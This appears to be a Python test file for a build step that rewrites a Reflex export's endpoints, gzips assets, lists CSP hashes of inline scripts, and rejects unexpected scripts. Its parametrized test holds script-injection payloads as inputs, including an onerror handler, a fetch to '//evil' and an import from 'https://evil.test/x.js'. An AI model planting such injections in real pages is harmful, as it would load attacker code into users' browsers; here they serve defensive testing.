"""What becomes of an export. Source: WEB-02, reflex.md §12."""

import gzip
import json

import pytest

from talento.edge import build

CLOSE = "window.__reactRouterContext.streamController.close();"


def page(folder, body: str):
    (folder / "assets").mkdir(parents=True, exist_ok=True)
    (folder / "index.html").write_text(f"<!doctype html><title>x</title>{body}")
    (folder / "assets" / "reflex-env-AAAAAAAA.js").write_text(
        'var e={PING:`http://localhost:8000/ping`,EVENT:"ws://localhost:8000/_event"};export{e as t};'
    )
    return folder / "index.html"


@pytest.fixture
def static(tmp_path):
    return tmp_path / "build" / "client"


def test_the_pages_talk_to_the_address_they_came_from(static):
    page(static, f"<script>{CLOSE}</script>")
    build.finish(static)

    [file] = static.glob("assets/*.js")
    assert file.read_text() == (
        "var e={PING:`${location.origin}/ping`,EVENT:`${location.origin.replace(/^http/,'ws')}/_event`};export{e as t};"
    )
    assert gzip.decompress(file.with_name(file.name + ".gz").read_bytes()) == file.read_bytes()


def test_the_scripts_of_each_page_are_listed(static):
    page(static, f'<script>{CLOSE}</script><script src="/x.js"></script>')
    build.finish(static)

    assert json.loads((static.parent.parent / "pages.json").read_text()) == {"index.html": [build.csp_hash(CLOSE)]}


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        f"<script>{CLOSE}alert(1)</script>",
        "<SCRIPT type=module>fetch('//evil')</SCRIPT>",
        '<script>window.__reactRouterContext.streamController.enqueue("a");alert("b");</script>',
        '<script>import "https://evil.test/x.js";\nwindow.__reactRouterRouteModules = {"root":route0};'
        'import("/assets/entry.client-AAAAAAAA.js");</script>',
        "<img src=x onerror=alert(1)>",
    ],
)
def test_a_script_that_nobody_expected_fails_the_build(static, body):
    page(static, body)

    with pytest.raises(build.BuildFailed):
        build.finish(static)


def test_an_export_of_another_shape_fails_the_build(static):
    page(static, "").parent.joinpath("assets", "reflex-env-AAAAAAAA.js").write_text("fetch('//localhost:8000/x')")

    with pytest.raises(build.BuildFailed):
        build.finish(static)


def test_a_changed_source_changes_the_stamp(tmp_path):
    (tmp_path / "talento" / "api").mkdir(parents=True)
    source, unbuilt = tmp_path / "talento" / "x.py", tmp_path / "talento" / "api" / "y.py"
    source.write_text("a")
    unbuilt.write_text("a")
    first = build.fingerprint(("talento",), tmp_path)
    unbuilt.write_text("b")
    assert build.fingerprint(("talento",), tmp_path) == first
    source.write_text("b")
    assert build.fingerprint(("talento",), tmp_path) != first
